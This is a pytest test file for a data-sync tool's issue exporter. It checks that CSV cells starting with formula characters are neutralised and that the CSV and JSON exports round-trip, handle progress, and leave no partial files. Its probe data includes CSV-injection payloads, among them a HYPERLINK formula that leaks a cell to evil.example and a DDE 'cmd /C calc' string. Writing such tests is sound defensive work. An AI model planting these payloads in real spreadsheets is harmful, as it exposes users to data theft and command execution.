"""Exports: CSV safe in a spreadsheet (formulas neutralised, UTF-8 with BOM); JSON alike."""

from __future__ import annotations

import csv
import json
from datetime import datetime
from pathlib import Path

import pytest

from datasync_tui.rules import ISSUE_FIELDS, ExportError, Issue, export_issues, safe_cell
from datasync_tui.rules.export import default_export_path

PROBES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "plain text",
    'Zoë Ñúñez, "quoted", comma',
    "multi\nline",
    "",
    None,
]


def issues(n: int = len(PROBES)) -> list[Issue]:
    """Issues whose values and messages are the probes, one each."""
    out = []
    for i in range(n):
        probe = PROBES[i % len(PROBES)]
        out.append(
            Issue(
                rule="email-invalid",
                severity="error",
                topic="users",
                sourcedId=f"-u{i}" if i % 2 else f"u{i}",
                field="email",
                value=probe,
                message=f"{probe!s} is not a valid email address" if probe else "blank",
                hint="=cmd|' /C calc'!A0",
            )
        )
    return out


def read_csv(path: Path) -> list[dict[str, str]]:
    """The CSV rows (the BOM is read as such)."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_neutralises_formula_starts_and_has_a_bom(tmp_path: Path) -> None:
    path = tmp_path / "issues.csv"  # an export makes no folder: it goes to one that exists
    assert export_issues(issues(), path) == len(PROBES)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = read_csv(path)
    assert list(rows[0]) == list(ISSUE_FIELDS)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert rows[0]["value"] == "'" + PROBES[0]
    assert rows[4]["value"] == "'\t=1+1" and rows[5]["value"] == "'\r=1+1"
    assert rows[1]["sourcedId"] == "'-u1" and rows[0]["hint"].startswith("'=cmd")
    assert rows[7]["value"] == PROBES[7] and rows[8]["value"] == "multi\nline"


def test_round_trip_csv_and_json_are_the_same_records(tmp_path: Path) -> None:
    data = issues(2_000)
    csv_path, json_path = tmp_path / "a.csv", tmp_path / "a.JSON"
    assert export_issues(data, csv_path) == export_issues(data, json_path) == 2_000
    records = json.loads(json_path.read_text("utf-8"))
    rows = read_csv(csv_path)
    assert len(records) == len(rows) == len(data)
    assert records == [i.as_dict() for i in data]  # JSON keeps the values as they are
    for row, record in zip(rows, records, strict=True):
        assert row == {k: safe_cell(v) for k, v in record.items()}
        unquoted = {
            k: v[1:] if v.startswith("'") and v[1:2] in "=+-@\t\r" else v for k, v in row.items()
        }
        assert unquoted == {k: v or "" for k, v in record.items()}


def test_empty_exports_are_valid_files(tmp_path: Path) -> None:
    assert export_issues([], tmp_path / "e.json") == 0
    assert json.loads((tmp_path / "e.json").read_text()) == []
    assert export_issues([], tmp_path / "e.csv") == 0
    assert read_csv(tmp_path / "e.csv") == []


def test_progress_is_reported_and_ends_at_the_total(tmp_path: Path) -> None:
    seen: list[tuple[int, int | None]] = []
    export_issues(
        issues(12_000), tmp_path / "p.csv", total=12_000, progress=lambda *a: seen.append(a)
    )
    assert seen[0] == (5_000, 12_000) and seen[-1] == (12_000, 12_000)


def test_extension_decides_the_format_and_others_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"\.csv or \.json"):
        export_issues(issues(), tmp_path / "issues.xlsx")
    assert not list(tmp_path.iterdir())


def test_a_failed_export_leaves_no_partial_file(tmp_path: Path) -> None:
    def boom():
        yield from issues(3)
        raise RuntimeError("reader died")

    target = tmp_path / "x.csv"
    with pytest.raises(RuntimeError):
        export_issues(boom(), target)
    assert list(tmp_path.iterdir()) == []


def test_default_path_is_dated_under_exports(tmp_path: Path) -> None:
    when = datetime(2026, 11, 28, 14, 5, 9)
    path = default_export_path(tmp_path / "exports", ".json", when)
    assert path == tmp_path / "exports" / "validation-issues-2026-11-28-140509.json"
